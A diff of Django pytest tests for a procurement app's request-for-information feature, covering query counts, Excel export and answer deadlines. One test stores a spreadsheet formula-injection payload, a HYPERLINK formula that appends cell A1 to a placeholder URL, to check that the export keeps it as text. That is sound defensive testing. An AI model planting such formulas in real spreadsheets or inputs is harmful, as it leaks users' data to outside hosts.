@@ -3,32 +3,17 @@
 import datetime
 from io import BytesIO
 
-import pytest
 from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from beredd.accounts.models import Organisation, OrganisationKind, Role, SizeClass
 from beredd.dialogue.models import RequestForInformation, RfiAnswer
 from beredd.procurement.models import Status
+from tests.conftest import another_supplier, count_queries, make_user
 from tests.test_publication_data import make_tender
 
 TODAY = timezone.localdate
-
-
-@pytest.fixture
-def draft(buyer_org):
-    return make_tender(buyer_org, "Bröd 2027", status=Status.DRAFT)
-
-
-@pytest.fixture
-def rfi(draft, procurer) -> RequestForInformation:
-    return RequestForInformation.objects.create(
-        procurement=draft,
-        title="Hur stora delområden passar er?",
-        questions="Hur många kök kan ni leverera till per dag?",
-        answer_deadline=TODAY() + datetime.timedelta(days=14),
-        created_by=procurer,
-    )
 
 
 def rfi_post(draft, **changes) -> dict:
@@ -134,7 +119,6 @@ def test_another_buyer_sees_neither_the_rfi_nor_its_answers(client, outsider, rf
 
 
 def test_a_supplier_sees_only_its_own_answer_and_cannot_export(client, bid_manager, rfi):
-    from beredd.accounts.models import Organisation, OrganisationKind, SizeClass
 
     rival = Organisation.objects.create(
         name="Rival AB",
@@ -174,3 +158,92 @@ def test_an_outsider_cannot_send_an_rfi_on_our_draft(client, outsider, draft):
     assert "procurement" in response.context["form"].errors
     assert draft.title not in response.content.decode()
     assert not RequestForInformation.objects.exists()
+
+
+# Many answers
+
+
+def test_rfi_lists_and_answers_do_not_query_per_row(client, procurer, bid_manager, buyer_org, rfi):
+    RfiAnswer.objects.create(rfi=rfi, organisation=another_supplier(0), text="Svar")
+    urls = {
+        procurer: [reverse("dialogue:rfi_list"), reverse("dialogue:rfi_detail", args=[rfi.pk])],
+        bid_manager: [reverse("dialogue:rfi_list")],
+    }
+    before = {}
+    for user, pages in urls.items():
+        client.force_login(user)
+        before[user] = [count_queries(client, url) for url in pages]
+    for number in range(1, 6):
+        draft = make_tender(buyer_org, f"Utkast {number}", status=Status.DRAFT)
+        RequestForInformation.objects.create(
+            procurement=draft,
+            title=f"RFI {number}",
+            questions="?",
+            answer_deadline=timezone.localdate() + datetime.timedelta(days=5),
+        )
+        supplier = another_supplier(number)
+        RfiAnswer.objects.create(
+            rfi=rfi,
+            organisation=supplier,
+            answered_by=make_user(f"svar{number}", supplier, [Role.BID_MANAGER]),
+            text="Svar",
+        )
+    for user, pages in urls.items():
+        client.force_login(user)
+        assert [count_queries(client, url) for url in pages] == before[user], user
+
+
+# Bad input
+
+
+def test_an_rfi_answer_that_looks_like_a_formula_stays_text_in_the_excel_export(
+    client, procurer, bid_manager, rfi
+):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
+    RfiAnswer.objects.create(rfi=rfi, organisation=bid_manager.organisation, text=formula)
+    client.force_login(procurer)
+    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
+    sheet = load_workbook(BytesIO(response.content)).active
+    cell = sheet.cell(row=2, column=6)
+    assert cell.value == formula
+    assert cell.data_type == "s"
+
+
+def test_an_rfi_answer_pasted_with_control_characters_does_not_break_the_export(
+    client, procurer, bid_manager, rfi
+):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    client.force_login(bid_manager)
+    pasted = "Rad ett\x0bRad två\x1f"
+    client.post(reverse("dialogue:rfi_detail", args=[rfi.pk]), {"text": pasted})
+    assert RfiAnswer.objects.exists()
+    client.force_login(procurer)
+    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
+    assert response.status_code == 200
+    sheet = load_workbook(BytesIO(response.content)).active
+    assert "Rad två" in sheet.cell(row=2, column=6).value
+
+
+def test_an_rfi_whose_answers_would_come_after_the_planned_publication_is_refused(
+    client, procurer, draft
+):
+    draft.publication_date = timezone.localdate() + datetime.timedelta(days=5)
+    draft.save()
+    client.force_login(procurer)
+    data = {
+        "procurement": draft.pk,
+        "title": "Lager",
+        "questions": "Hur många dagars lager?",
+        "answer_deadline": (timezone.localdate() + datetime.timedelta(days=10)).isoformat(),
+    }
+    response = client.post(reverse("dialogue:rfi_create"), data)
+    assert response.status_code == 200
+    assert "answer_deadline" in response.context["form"].errors
+    assert not RequestForInformation.objects.filter(title="Lager").exists()
